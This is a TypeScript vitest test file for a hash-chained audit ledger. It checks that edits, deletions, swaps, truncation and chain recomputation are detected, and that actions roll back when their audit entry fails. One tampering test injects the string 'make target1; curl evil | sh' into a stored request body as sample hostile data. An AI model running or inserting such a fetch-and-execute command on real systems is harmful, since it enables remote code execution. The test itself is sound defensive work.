import { createHash } from "node:crypto";
import { describe, expect, it } from "vitest";
import { genesisHash } from "../../src/ledger/audit-chain.ts";
import { canonicalJson } from "../../src/canonical-json.ts";
import { type Ledger, LedgerInputError, parseAnchors } from "../../src/ledger/ledger.ts";
import { approvedRequest, chainEntries, dropGuards, newRequest, newVote, openTestLedger, populatedLedger, recomputeChain } from "./fixtures.ts";

const N = chainEntries;

function failure(ledger: Ledger, anchors: { seq: number; hash: string }[] = []): { seq: number; reason: string } {
  const result = ledger.verify({ anchors });
  if (result.ok) throw new Error("verify reported an intact chain");
  return { seq: result.seq, reason: result.reason };
}

describe("the chain as written", () => {
  it("verifies, and its head is the last entry", () => {
    const ledger = populatedLedger();
    const head = ledger.head();
    expect(ledger.verify()).toEqual({ ok: true, count: N, head, anchorsChecked: 0 });
    expect(ledger.tail(1)[0]!.hash).toBe(head.hash);
  });

  it("is empty with the genesis head before anything is appended", () => {
    const { ledger } = openTestLedger();
    expect(ledger.head()).toEqual({ seq: 0, hash: genesisHash });
    expect(ledger.verify()).toEqual({ ok: true, count: 0, head: { seq: 0, hash: genesisHash }, anchorsChecked: 0 });
  });

  it("hashes the canonical JSON of {actor, body, event, prev_hash, seq, ts}, so anyone can recompute it", () => {
    const ledger = populatedLedger();
    let prev = genesisHash;
    for (const e of ledger.entries()) {
      const encoding = canonicalJson({ seq: e.seq, ts: e.ts, actor: e.actor, event: e.event, body: JSON.parse(e.body), prev_hash: prev });
      expect(createHash("sha256").update(encoding, "utf8").digest("hex"), `seq ${e.seq}`).toBe(e.hash);
      expect(e.prevHash).toBe(prev);
      prev = e.hash;
    }
  });

  it("verifies entries whose text needs escaping: quotes, backslashes, control characters, emoji, U+2028", () => {
    const { ledger } = openTestLedger();
    const odd = ['@q"uote\\back:example.org', "@tab\there\u0001\u007f:example.org", "@émoji😀\u2028:example.org", "bot"];
    for (const actor of odd) ledger.append("config.change", actor, { note: `${actor} \u0000 \ud83d\ude00 \\ "x"` });
    expect(ledger.verify()).toMatchObject({ ok: true, count: odd.length });
  });

  it("verifies against anchors taken along the way", () => {
    const ledger = populatedLedger();
    const anchors = [5, 12, N].map((seq) => ({ seq, hash: ledger.tail(N).find((e) => e.seq === seq)!.hash }));
    expect(ledger.verify({ anchors })).toMatchObject({ ok: true, count: N, anchorsChecked: 3 });
  });
});

describe("tampering is detected at the right entry", () => {
  const rows = [1, 13, N];
  const edits: [column: string, sql: string, reason: string][] = [
    ["ts", "ts = ts + 1", "content_hash_mismatch"],
    ["actor", "actor = '@mallory:example.org'", "content_hash_mismatch"],
    ["event", "event = 'bot.noop'", "content_hash_mismatch"],
    ["body", "body = replace(body, '}', ',\"x\":1}')", "content_hash_mismatch"],
    ["body bytes only", "body = ' ' || body", "content_hash_mismatch"],
    ["hash", "hash = replace(hash, substr(hash, 1, 1), CASE substr(hash, 1, 1) WHEN 'a' THEN 'b' ELSE 'a' END)", "content_hash_mismatch"],
    ["prev_hash", "prev_hash = replace(prev_hash, substr(prev_hash, 1, 1), CASE substr(prev_hash, 1, 1) WHEN 'a' THEN 'b' ELSE 'a' END)", "broken_prev_link"],
    ["seq", "seq = seq + 1000", "seq_gap"],
  ];
  for (const [column, set, reason] of edits) {
    it.each(rows)(`changing ${column} of entry %i`, (seq) => {
      const ledger = populatedLedger();
      dropGuards(ledger);
      expect(ledger.db.prepare(`UPDATE audit SET ${set} WHERE seq = ?`).run(seq).changes).toBe(1);
      expect(failure(ledger)).toEqual({ seq, reason });
    });
  }

  it.each(rows)("deleting entry %i", (seq) => {
    const ledger = populatedLedger();
    const head = ledger.head();
    dropGuards(ledger);
    ledger.db.prepare("DELETE FROM audit WHERE seq = ?").run(seq);
    // Deleting the last entry leaves no gap behind it: only the published head tells it is missing.
    const expected = seq === N ? { seq: N, reason: "missing_after_anchor" } : { seq, reason: "seq_gap" };
    expect(failure(ledger, [head])).toEqual(expected);
  });

  it.each([1, 13, N - 1])("swapping entries %i and the next", (seq) => {
    const ledger = populatedLedger();
    dropGuards(ledger);
    ledger.db.exec(`UPDATE audit SET seq = -1 WHERE seq = ${seq}; UPDATE audit SET seq = ${seq} WHERE seq = ${seq + 1}; UPDATE audit SET seq = ${seq + 1} WHERE seq = -1;`);
    expect(failure(ledger).seq).toBe(seq);
  });

  it("truncating the tail: undetectable alone, detected with a published anchor", () => {
    const ledger = populatedLedger();
    const published = ledger.head();
    dropGuards(ledger);
    ledger.db.exec("DELETE FROM audit WHERE seq > 20");
    expect(ledger.verify()).toMatchObject({ ok: true, count: 20 });
    expect(failure(ledger, [published])).toEqual({ seq: 21, reason: "missing_after_anchor" });
  });

  it("recomputing the whole chain after an edit: undetectable alone, detected at the first anchor after the edit", () => {
    const ledger = populatedLedger();
    const at = (seq: number) => ledger.tail(N).find((e) => e.seq === seq)!.hash;
    const anchors = [6, 15, N].map((seq) => ({ seq, hash: at(seq) }));
    dropGuards(ledger);
    ledger.db.prepare("UPDATE audit SET body = replace(body, 'make target1', 'make target1; curl evil | sh') WHERE event = 'request.create' AND body LIKE '%make target1%'").run();
    const edited = (ledger.db.prepare("SELECT seq FROM audit WHERE body LIKE '%curl evil%'").get() as { seq: number }).seq;
    expect(edited).toBeGreaterThan(6);
    expect(edited).toBeLessThan(15);
    recomputeChain(ledger, 1);
    expect(ledger.verify()).toMatchObject({ ok: true, count: N });
    expect(failure(ledger, anchors)).toEqual({ seq: 15, reason: "anchor_mismatch" });
    expect(ledger.verify({ anchors: [anchors[0]!] })).toMatchObject({ ok: true });
  });

  it("an anchor that does not match the chain is reported at its seq", () => {
    const ledger = populatedLedger();
    expect(failure(ledger, [{ seq: 3, hash: "e".repeat(64) }])).toEqual({ seq: 3, reason: "anchor_mismatch" });
  });

  it("reports how many entries verified before the bad one", () => {
    const ledger = populatedLedger();
    dropGuards(ledger);
    ledger.db.exec("UPDATE audit SET actor = 'x' WHERE seq = 9");
    expect(ledger.verify()).toMatchObject({ ok: false, seq: 9, verified: 8, message: expect.stringMatching(/^seq 9: content hash mismatch/) });
  });
});

describe("fail closed: no action without its audit entry", () => {
  function withFailingAudit(ledger: Ledger): void {
    ledger.db.exec("CREATE TRIGGER audit_fails BEFORE INSERT ON audit BEGIN SELECT RAISE(ABORT, 'simulated audit failure'); END;");
  }

  it("a vote, a decision, a claim and a request creation all roll back", () => {
    const { ledger } = openTestLedger();
    const pending = ledger.createRequest(newRequest());
    const approved = approvedRequest(ledger);
    const head = ledger.head();
    withFailingAudit(ledger);
    expect(() => ledger.recordVote(newVote(pending.id, { voter: "@carol:example.org" }))).toThrow("simulated audit failure");
    expect(() => ledger.transition(pending.id, "pending", "denied", "bot")).toThrow("simulated audit failure");
    expect(() => ledger.claimExecution(approved, "bot")).toThrow("simulated audit failure");
    expect(() => ledger.createRequest(newRequest())).toThrow("simulated audit failure");
    expect(ledger.tally(pending.id)).toEqual([]);
    expect(ledger.getRequest(pending.id)!.state).toBe("pending");
    expect(ledger.getRequest(approved)!.state).toBe("approved");
    expect(ledger.getExecution(approved)).toBeNull();
    expect(ledger.listPending()).toHaveLength(1);
    expect(ledger.head()).toEqual(head);
    ledger.db.exec("DROP TRIGGER audit_fails");
    expect(ledger.claimExecution(approved, "bot").ok).toBe(true);
  });
});

describe("append", () => {
  it("appends other events with the actor and body", () => {
    const t = openTestLedger();
    const entry = t.ledger.append("config.change", "@admin:example.org", { key: "policy.file", from: "a.yaml", to: "b.yaml" });
    expect(entry).toMatchObject({ seq: 1, ts: t.clock.now, actor: "@admin:example.org", event: "config.change", body: '{"from":"a.yaml","key":"policy.file","to":"b.yaml"}' });
    expect(t.ledger.head()).toEqual({ seq: 1, hash: entry.hash });
  });

  it.each([
    ["request.create", "written by the ledger itself"],
    ["exec.result", "written by the ledger itself"],
    ["rule.create", "written by the ledger itself"],
    ["Bot Start", "append: event: an event name is dotted lower-case words"],
  ])("refuses the event name %s", (event, message) => {
    const { ledger } = openTestLedger();
    expect(() => ledger.append(event, "bot", {})).toThrow(LedgerInputError);
    expect(() => ledger.append(event, "bot", {})).toThrow(message);
  });

  it("refuses an empty actor and a body that is not plain JSON, appending nothing", () => {
    const { ledger } = openTestLedger();
    expect(() => ledger.append("bot.start", "", {})).toThrow("bot.start: actor: must not be empty");
    expect(() => ledger.append("bot.start", "bot", { at: new Date() })).toThrow("bot.start: body $.at: only plain objects can be encoded");
    expect(ledger.head().seq).toBe(0);
  });
});

describe("append after the head moved elsewhere", () => {
  it("extends the real head when another connection appended in between", () => {
    const a = openTestLedger();
    const b = openTestLedger(a.path);
    a.ledger.append("bot.start", "bot", { n: 1 });
    b.ledger.append("bot.start", "bot", { n: 2 });
    const third = a.ledger.append("bot.start", "bot", { n: 3 });
    expect(third.seq).toBe(3);
    expect(third.prevHash).toBe(b.ledger.tail(2)[0]!.hash);
    expect(a.ledger.verify()).toMatchObject({ ok: true, count: 3 });
  });

  it("extends the real head after a transaction that appended was rolled back", () => {
    const { ledger } = openTestLedger();
    ledger.append("bot.start", "bot", {});
    expect(() =>
      ledger.atomically(() => {
        ledger.append("bot.stop", "bot", {});
        throw new Error("the action failed");
      }),
    ).toThrow("the action failed");
    expect(ledger.append("bot.stop", "bot", {}).seq).toBe(2);
    expect(ledger.verify()).toMatchObject({ ok: true, count: 2 });
  });
});

describe("anchors files", () => {
  it("reads JSON lines with seq and hash, ignoring other keys, blank lines and comments", () => {
    const h = "ab".repeat(32);
    const text = `# published to the control room\n{"seq":3,"hash":"${h}"}\n\n{"seq":9,"ts":1,"event":"bot.stop","hash":"${h}"}\n`;
    expect(parseAnchors(text, "anchors.jsonl")).toEqual([
      { seq: 3, hash: h },
      { seq: 9, hash: h },
    ]);
  });

  it.each([
    ["{seq:1}", "anchors.jsonl:1: not JSON"],
    ['{"seq":0,"hash":"' + "a".repeat(64) + '"}', "anchors.jsonl:1: seq:"],
    ['{"seq":1,"hash":"ABC"}', "anchors.jsonl:1: hash: hash must be 64 lower-case hex digits"],
  ])("rejects %s", (line, message) => {
    expect(() => parseAnchors(line, "anchors.jsonl")).toThrow(message);
  });
});
